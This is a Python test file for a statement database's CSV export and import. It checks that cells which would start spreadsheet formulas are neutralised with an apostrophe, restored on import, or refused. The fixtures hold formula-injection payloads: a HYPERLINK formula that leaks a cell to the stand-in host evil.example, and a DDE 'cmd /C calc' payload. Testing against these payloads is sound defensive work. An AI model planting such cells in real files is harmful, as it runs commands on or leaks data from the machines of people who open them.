"""A CSV export opened in a spreadsheet runs no formula: a cell beginning with = + - @ (or a
tab or carriage return) gets an apostrophe before it, and import takes it off again, so the
CSV round trip stays exact; a hand-written cell that a spreadsheet would run is refused.
JSON lines carry every value as it is."""

from __future__ import annotations

import csv
import io
from collections.abc import Awaitable, Callable
from typing import Any

import pytest

from storage.engine import Database
from storage.exchange import ExchangeFormat, export_statements, import_statements
from storage.exchange_files import neutralise_formula, restore_formula
from storage.statements import add_statement
from storage.validation import validate_statement

DANGEROUS = {
    "text": '=HYPERLINK("http://evil.example/?leak="&A1, "Click for the source")',
    "source": "+cmd|' /C calc'!A0",
    "speaker_role": "-2+3",
    "places": ["@SUM(1+1)"],
    "speaker": "=Speaker",
}


def values(ref: str, **changes: Any) -> dict[str, Any]:
    return {
        "ref": ref,
        "speaker": "Plain Speaker",
        "side": "Testland",
        "said_on": "2025-06-01",
        "topics": ["talks"],
        "text": "Plain text.",
        "source": "Plain source",
        **changes,
    }


async def fill(database: Database) -> None:
    await add_statement(database, validate_statement(values("f1", **DANGEROUS)), "seed")
    await add_statement(database, validate_statement(values("f2", text="'=already quoted by the speaker")), "seed")
    await add_statement(database, validate_statement(values("f3", text="'plain apostrophe", source="- dash")), "seed")


def csv_rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode(), newline="")))


async def test_no_exported_cell_starts_a_formula(database: Database) -> None:
    await fill(database)

    rows = csv_rows(await export_statements(database, ExchangeFormat.csv))

    for row in rows:
        for cell in row.values():
            assert cell[:1] not in {"=", "+", "-", "@", "\t", "\r"}, cell
    assert rows[0]["text"] == "'" + DANGEROUS["text"]
    assert rows[0]["source"] == "'" + DANGEROUS["source"]
    assert rows[0]["speaker_role"] == "'-2+3"
    assert rows[0]["places"] == "'@SUM(1+1)"
    assert rows[0]["speaker"] == "'=Speaker"
    assert rows[1]["text"] == "''=already quoted by the speaker"
    assert rows[2]["text"] == "'plain apostrophe", "a cell no spreadsheet runs is left alone"


async def test_the_csv_export_imports_back_exactly(
    database: Database, db_engine: str, make_database: Callable[..., Awaitable[Database]]
) -> None:
    await fill(database)
    exported_csv = await export_statements(database, ExchangeFormat.csv)
    target = await make_database(db_engine)

    report = await import_statements(target, "record.csv", exported_csv, "admin")

    assert report.ok and report.added == 3
    assert await export_statements(target, ExchangeFormat.jsonl) == await export_statements(
        database, ExchangeFormat.jsonl
    )
    assert (await import_statements(database, "record.csv", exported_csv, "admin")).unchanged == 3


async def test_json_lines_keep_every_value_as_it_is(database: Database) -> None:
    await fill(database)

    exported = (await export_statements(database, ExchangeFormat.jsonl)).decode()

    assert '"text": "=HYPERLINK(' in exported and '"source": "+cmd' in exported


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "'=1", "''+1", "'x", "x=1", ""])
def test_neutralising_then_restoring_gives_the_cell_back(cell: str) -> None:
    exported = neutralise_formula(cell)
    assert exported[:1] not in {"=", "+", "-", "@", "\t", "\r"}
    assert restore_formula(exported) == cell


async def test_a_hand_written_formula_cell_is_refused_with_its_line_and_nothing_is_imported(
    database: Database,
) -> None:
    lines = [
        "ref,said_on,speaker,side,topics,text,source",
        "h1,2025-06-01,Plain Speaker,Testland,talks,Plain text.,Plain source",
        'h2,2025-06-01,Plain Speaker,Testland,talks,"=HYPERLINK(""http://evil.example"",""x"")",@SUM(A1)',
        "h3,2025-06-01,Plain Speaker,Testland,talks,'=1+1 as text,Plain source",
    ]

    report = await import_statements(database, "hand.csv", "\n".join(lines).encode(), "tester")

    assert [(problem.line, problem.field) for problem in report.problems] == [(3, "text"), (3, "source")]
    assert "begins as a spreadsheet formula does" in str(report.problems[0])
    assert report.added == 0
    assert await export_statements(database, ExchangeFormat.jsonl) == b""


async def test_a_hand_written_cell_with_its_apostrophe_imports_as_text(database: Database) -> None:
    lines = ["ref,said_on,speaker,side,topics,text,source", "h3,2025-06-01,Plain Speaker,Testland,talks,'=1+1,src"]

    report = await import_statements(database, "hand.csv", "\n".join(lines).encode(), "tester")

    assert report.added == 1
    assert '"text": "=1+1"' in (await export_statements(database, ExchangeFormat.jsonl)).decode()
